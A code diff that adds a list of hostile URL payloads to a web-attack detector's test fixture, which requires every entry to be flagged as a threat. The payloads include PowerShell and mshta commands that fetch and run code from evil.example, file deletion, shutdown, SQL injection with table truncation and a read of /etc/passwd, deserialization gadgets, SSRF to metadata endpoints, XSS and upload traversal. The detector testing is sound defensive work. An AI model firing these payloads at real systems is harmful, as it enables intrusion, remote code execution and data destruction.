@@ -305,10 +305,72 @@ const INJECTION = lines(String.raw`
 /index.php?s=/Index/\think\app/invokefunction&function=call_user_func_array&vars[0]=phpinfo
 `);
 
+const LANGUAGES = lines(String.raw`
+/run?code=for+%25%25f+in+(*.txt)+do+del+%25%25f
+/run?code=FOR+/F+%22tokens=2%22+%25a+IN+('netstat')+DO+echo+%25a
+/run?x=if+exist+c:\inetpub\wwwroot+echo+yes
+/run?x=if+/i+%22%25os%25%22==%22windows_nt%22+ver
+/run?x=if+%25errorlevel%25+neq+0+shutdown
+/run?x=Invoke-RestMethod+-Uri+http://evil.example/a
+/run?x=;iex+(iwr+http://evil.example/a.ps1)
+/run?x=nohup+bash+-c+ls
+/run?x=mshta+http://evil.example/a.hta
+/run?x=/usr/b[i]n/cu[r]l+evil.example
+/run?x=alias+ll=reboot
+/run?x={,uname}
+/page?x=%3C%3Fphp+echo+1
+/page?x=[php]phpinfo
+/page?x=array_map('x',$y)
+/page?x=gzuncompress()
+/page?x=$fn(1)
+/page?x=$_x['a'](7)
+/page?x=('exec')('ls')
+/page?x=(passthru)(ls)
+/page?x=[exec][0](ls)
+/page?x=O:11:%22ArrayObject%22:1:%7Bi:0;i:1;%7D
+/page?x=session.save_path=/tmp
+/page?x=_$$ND_FUNC$$_function()%7B%7D
+/page?x=process.env.SECRET
+/page?x=require('fs')
+/page?x=while(true)%7B%7D
+/page?x=setTimeout(%22x%22,1)
+/page?x=top[%22al%22%2B%22ert%22](1)
+/page?x=[].map.call%601%60
+/page?x=java.lang.ProcessBuilder
+/page?x=javax.script.ScriptEngineManager
+/page?x=org.apache.commons.collections.functors.InvokerTransformer
+/page?id=1+or+'%7B%22a%22:1%7D'::jsonb+@%3E+'%7B%7D'
+/page?id=1)::text--
+/page?id=lo_import('/etc/passwd')
+/page?id=1+union+select+login,hash+from+accounts
+/page?id=7+and+false--
+/page?id=1;truncate+table+users
+/users?name=x)(mail=*))(%26(a=b
+/users?name=*)(|(cn=*
+/page?x=a%0d%0aRefresh:+0
+/page?x=GET+/admin+HTTP/1.1
+/fetch?url=http://192.0.2.7/shell.php
+/fetch?url=http://192.0.0.192/latest/
+/fetch?url=kubernetes.default.svc.cluster.local
+/page?GLOBALS_path=x&include_path=http://evil.example/
+/page?x=%3Cs+c+r+i+p+t%3E
+/page?x=%3Cx:script+xmlns:x='y'%3E
+/page?x='onpointerenter=alert
+/page?x=%2BADw-script%2BAD4-
+/page?x=url(javascript:1)
+/page?a[constructor][prototype][x]=1
+/upload?filename=../../x.jsp
+/webtools/control/forgotPassword;/ProgramExport
+/%2561dmin/users
+/.codex/config.toml
+/.gemini/settings.json
+`);
+
 /** By kind, so that a test can say which one grew thin. All must be called a threat. */
 export const ATTACKS: Readonly<Record<string, readonly string[]>> = {
   "path traversal and file inclusion": TRAVERSAL,
   "command injection": COMMAND,
   "path probes": PATHS,
   "other injections": INJECTION,
+  "code of languages": LANGUAGES,
 };
